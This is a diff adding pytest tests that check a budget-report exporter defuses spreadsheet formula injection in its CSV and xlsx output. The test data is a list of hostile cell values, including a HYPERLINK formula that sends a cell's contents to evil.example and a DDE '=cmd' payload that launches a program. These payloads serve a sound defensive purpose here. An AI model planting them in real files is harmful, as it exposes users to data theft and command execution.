@@ -7,12 +7,17 @@ through the database (``month_report``) to check the pieces fit.
 from __future__ import annotations
 
 import csv
+import dataclasses
+import io
 import os
+import re
+import zipfile
 from datetime import date, datetime
 from decimal import Decimal
 
 import openpyxl
 import pytest
+import rfc4180
 
 from aoai_helpers.budget import Allocation, BudgetBurn
 from aoai_helpers.exceptions import ConfigError
@@ -251,3 +256,96 @@ def test_from_the_database(engine, make_v2, ingest_events, tmp_path):
     assert body[-1][col["Allocation"]].value == pytest.approx(99.99)
     rows = list(csv.DictReader(write_csv(tmp_path / "db.csv", rep).read_text("utf-8").splitlines()))
     assert [r["Business unit"] for r in rows] == [r[col["Business unit"]].value for r in body[:-1]]
+
+
+# ----------------------------------------------------------------------------- hostile names
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "\r=cmd|' /C calc'!A0",
+    "x\r=cmd|' /C calc'!A0",  # a bare CR inside: a new row in a spreadsheet, if unquoted
+    "+1",
+    "-1",
+    "@SUM(1+1)",
+    " =1+1",  # formula leads after leading whitespace
+    "\t=1+1",
+    "\n@SUM(1)",
+    "\x1b[31mred",
+    "abc\u202edef",
+    "a\nb",
+    'quote " and, comma',
+]
+_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_defuses_formulas_and_quotes_cr_lf_quote_comma(tmp_path):
+    lines = [
+        BuCharge(name, "=cost()" if i == 0 else "CC-1", 1, 10, 5, 15, 1.0, "USD", 0.0, 0, 0)
+        for i, name in enumerate(HOSTILE)
+    ]
+    text = write_csv(tmp_path / "h.csv", report(lines)).read_bytes().decode("utf-8")
+    records = rfc4180.records(text)
+    assert len(records) == 1 + len(HOSTILE)  # no name splits a row
+    assert all(len(r) == len(NO_ALLOCATION) for r in records)
+    bu = NO_ALLOCATION.index("Business unit")
+    for name, record in zip(HOSTILE, records[1:], strict=True):
+        leads = name.startswith(_LEADS) or name.lstrip().startswith(_LEADS)
+        assert record[bu] == ("'" + name if leads else name)
+    for record in records:
+        for cell in record:  # no cell a spreadsheet could take for a formula
+            assert not cell.startswith(_LEADS) and not cell.lstrip().startswith(_LEADS), cell
+    assert records[1][NO_ALLOCATION.index("Cost centre")] == "'=cost()"
+    # and the standard reader agrees
+    assert list(csv.reader(io.StringIO(text, newline=""))) == records
+
+
+def test_csv_quotes_only_what_needs_it(tmp_path):
+    text = write_csv(tmp_path / "q.csv", report([line("Plain BU", 1.0)])).read_text("utf-8")
+    assert '"' not in text and "\r" not in text
+    assert text.splitlines()[1].startswith("2026-11,Plain BU,CC-1,10,900,100,1000,1,USD,")
+
+
+def _formulas(path) -> list[str]:
+    """The parts of an xlsx that hold a formula element (``<f>``, ``<f …>``, ``<f/>``)."""
+    with zipfile.ZipFile(path) as z:
+        return [n for n in z.namelist() if re.search(rb"<f[\s>/]", z.read(n))]
+
+
+def test_xlsx_hostile_names_are_text_everywhere_and_titles_stay_valid(tmp_path):
+    lines = [line(name, 1.0) for name in HOSTILE]
+    lines.append(line("'=quoted'", 1.0))
+    rep = report(lines)
+    # the BU sheets show each BU's models, days and users: give every BU hostile ones too
+    rep = dataclasses.replace(
+        rep,
+        by_model=[
+            ModelUsage(n, "=model()", "@dep", 1, 1, 1, 0, 2, 1.0, "USD", 0.0, 0, 0)
+            for n in rep.business_units()
+        ],
+        top_users=[UserUsage("=user()", "+mail", n, 1, 2, 1.0, "USD", 0) for n in HOSTILE],
+    )
+    path = write_xlsx(tmp_path / "h.xlsx", rep)
+    assert _formulas(path) == []  # no formula anywhere in the file
+    wb = openpyxl.load_workbook(path)
+    titles = wb.sheetnames
+    assert len(titles) == 1 + len(lines) and len({t.casefold() for t in titles}) == len(titles)
+    for title in titles:
+        assert 0 < len(title) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", title)
+        assert not title.startswith("'") and not title.endswith("'")
+    assert '=HYPERLINK("http___evil.example' in titles  # ":" and "/" became "_"
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    _, _, body = _table(wb["Summary"])
+    # as they are, as text, but for what XML cannot hold (ESC…: dropped) and reads otherwise
+    # (a CR comes back as LF: XML's line-end normalisation)
+    shown = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", n).replace("\r", "\n") for n in HOSTILE]
+    assert [r[1].value for r in body[:-1]] == [*shown, "'=quoted'"]
+    assert all(r[1].data_type == "s" for r in body[:-1])
+    first = wb[titles[1]]
+    assert first["A1"].value.startswith("=HYPERLINK(") and first["A1"].data_type == "s"
+    _, _, models = _table(first, "Model")
+    assert [c.value for c in models[0][:2]] == ["=model()", "@dep"]
+    _, _, users = _table(first, "User")
+    assert [c.value for c in users[0][:2]] == ["=user()", "+mail"]
